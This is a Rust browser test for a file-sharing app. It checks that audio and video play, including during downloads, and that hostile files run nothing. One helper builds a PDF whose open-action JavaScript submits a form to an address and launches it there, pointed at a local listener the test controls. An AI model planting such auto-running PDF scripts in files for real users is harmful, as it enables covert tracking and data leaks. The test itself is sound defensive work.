//! Media in a real browser: audio and video play, also while they are downloaded; hostile files under `/f/` run nothing.

use std::{io::ErrorKind, net::TcpListener};

use data_encoding::BASE64;

use super::{Served, assert_quiet, chromium::Browser, give_token, open_live, row, shows};
use crate::program::*;

const RATE: u32 = 8000;

/// Starts the player of an address, without sound, as a page may that nobody has clicked on.
const START: &str = "(() => {
    const player = document.querySelector('video');
    if (!player) return false;
    player.muted = true;
    player.play().catch(() => {});
    return player.readyState > 0;
  })()";

/// A WAV file: noise of so many seconds, no part of which is like another.
fn wav(seconds: u32) -> Vec<u8> {
    let data = bytes(1, (seconds * RATE * 2) as usize);
    let len = u32::try_from(data.len()).unwrap();
    let mut file = b"RIFF".to_vec();
    file.extend((36 + len).to_le_bytes());
    file.extend(b"WAVEfmt ");
    file.extend(16_u32.to_le_bytes());
    for (number, bytes) in [(1, 2), (1, 2), (RATE, 4), (RATE * 2, 4), (2, 2), (16, 2)] {
        file.extend(&u32::to_le_bytes(number)[..bytes]);
    }
    file.extend(b"data");
    file.extend(len.to_le_bytes());
    file.extend(data);
    file
}

/// A PDF of one page. When it is opened its script sends a form to `address` and opens it.
fn hostile_pdf(address: &str) -> Vec<u8> {
    let script = format!("this.submitForm\\({{cURL:'{address}'}}\\);app.launchURL\\('{address}'\\)");
    let objects = [
        format!("<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS({script})>>>>"),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 100]>>".to_owned(),
    ];
    let (mut file, mut places) = ("%PDF-1.4\n".to_owned(), String::new());
    for (object, number) in objects.iter().zip(1..) {
        places.push_str(&format!("{:010} 00000 n \n", file.len()));
        file.push_str(&format!("{number} 0 obj{object}endobj\n"));
    }
    let at = file.len();
    file.push_str(&format!("xref\n0 4\n0000000000 65535 f \n{places}trailer<</Size 4/Root 1 0 R>>\n"));
    file.push_str(&format!("startxref\n{at}\n%%EOF"));
    file.into_bytes()
}

/// A clip of 12 pictures, which the browser records.
fn webm(browser: &Browser) -> Vec<u8> {
    let script = "const canvas = document.createElement('canvas');
        [canvas.width, canvas.height] = [64, 48];
        const context = canvas.getContext('2d');
        const recorder = new MediaRecorder(canvas.captureStream(10), { mimeType: 'video/webm;codecs=vp8' });
        const parts = [];
        recorder.ondataavailable = (event) => parts.push(event.data);
        let drawn = 0;
        const timer = setInterval(() => {
          context.fillStyle = `rgb(${20 * drawn}, 0, 0)`;
          context.fillRect(0, 0, 64, 48);
          if (++drawn === 12) { clearInterval(timer); recorder.stop(); }
        }, 50);
        recorder.start();
        return new Promise((give) => { recorder.onstop = async () => {
          const bytes = new Uint8Array(await new Blob(parts).arrayBuffer());
          give(btoa(String.fromCharCode(...bytes)));
        }; });";
    BASE64.decode(browser.value(script).as_str().unwrap().as_bytes()).unwrap()
}

/// Clicks `Play` in the row of `name`, which is in the body `table`, and waits until `player` is a playing one.
fn play(browser: &Browser, table: &str, name: &str, kind: &str) {
    let find = format!(
        "[...document.getElementById('{table}').children].find((row) => row.innerText.includes('{name}'))"
    );
    browser.until(&find);
    // A player begins by itself only where the user has clicked.
    let mark = format!(
        "[...{find}.querySelectorAll('button')].find((at) => at.innerText.startsWith('Play')).id = 'clicked'"
    );
    browser.value(&mark);
    browser.click("#clicked");
    browser.value("document.getElementById('clicked').id = ''");
    browser.until(&format!("document.querySelector('#player {kind}')?.currentTime > 0"));
}

fn close_player(browser: &Browser) {
    browser.click_until("#player-close", "document.getElementById('player').children.length === 0");
}

fn held_media_plays_in_the_page_and_under_its_address(browser: &Browser, peer: &Served) {
    open_live(browser, &peer.url);
    for (name, kind) in [("tone.wav", "audio"), ("clip.webm", "video")] {
        play(browser, "catalogue", name, kind);
        close_player(browser);
    }
    assert_quiet(browser, &[peer.host()]);
    for (name, seconds) in [("tone.wav", 3.0), ("clip.webm", 0.0)] {
        browser.open(&format!("{}/f/{name}", peer.url));
        browser.until(START);
        browser.until("document.querySelector('video')?.currentTime > 0");
        let duration = browser.value("return document.querySelector('video').duration");
        assert!(duration.as_f64().is_none_or(|duration| duration >= seconds), "{name}: {duration}");
    }
    // In the middle of the file: the player asks for a range.
    browser.open(&format!("{}/f/tone.wav", peer.url));
    browser.until(START);
    browser.value("document.querySelector('video').currentTime = 2");
    browser.until("document.querySelector('video').currentTime > 2");
}

fn media_plays_while_it_is_downloaded(browser: &Browser, peer: &Served) {
    peer.home.done(&["get", "long.wav", "--background"]);
    open_live(browser, &peer.url);
    browser.until(&row("transfers", &["long.wav", "downloading"]));
    browser.type_into("#terms", "long.wav\u{E007}");
    play(browser, "found", "long.wav", "audio");
    let runs = row("transfers", &["long.wav", "downloading"]);
    assert_eq!(browser.value(&format!("return {runs}")), true, "it plays before it is here");
    close_player(browser);
    browser.click("#transfers button");
    give_token(browser, &peer.http.token);
    browser.until("document.getElementById('strip').hidden");
    browser.until(&shows("note", "The download of long.wav was cancelled."));
}

fn scripts_of_a_pdf_reach_nothing(browser: &Browser, peer: &Served, elsewhere: &TcpListener) {
    browser.console_and_hosts(); // the address of a clip has no icon
    browser.open(&format!("{}/f/evil.pdf", peer.url));
    assert_eq!(browser.value("return document.contentType"), "application/pdf", "it is shown and not saved");
    open_live(browser, &peer.url);
    let (_, hosts) = browser.console_and_hosts();
    let other = elsewhere.local_addr().unwrap().to_string();
    assert!(!hosts.contains(&other), "{hosts:?}");
    assert_eq!(elsewhere.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "nobody connected");
    assert_eq!(browser.value("return localStorage.length"), Value::from(0));
}

#[test]
fn media_plays_and_hostile_files_run_nothing() {
    let Some(browser) = Browser::start() else { return };
    let (_indexers, theirs, mine) = two_homes();
    let elsewhere = TcpListener::bind("127.0.0.1:0").unwrap();
    elsewhere.set_nonblocking(true).unwrap();
    mine.write("evil.pdf", hostile_pdf(&format!("http://{}/", elsewhere.local_addr().unwrap())));
    mine.write("tone.wav", wav(3));
    let _origin = theirs.share_file("long.wav", wav(2000));
    let peer = Served::start(mine, &["--limit-down", "1MB"]);
    open_live(&browser, &peer.url);
    peer.home.write("clip.webm", webm(&browser));
    peer.home.done(&["share", "evil.pdf", "tone.wav", "clip.webm"]);
    held_media_plays_in_the_page_and_under_its_address(&browser, &peer);
    media_plays_while_it_is_downloaded(&browser, &peer);
    scripts_of_a_pdf_reach_nothing(&browser, &peer, &elsewhere);
    browser.close();
}
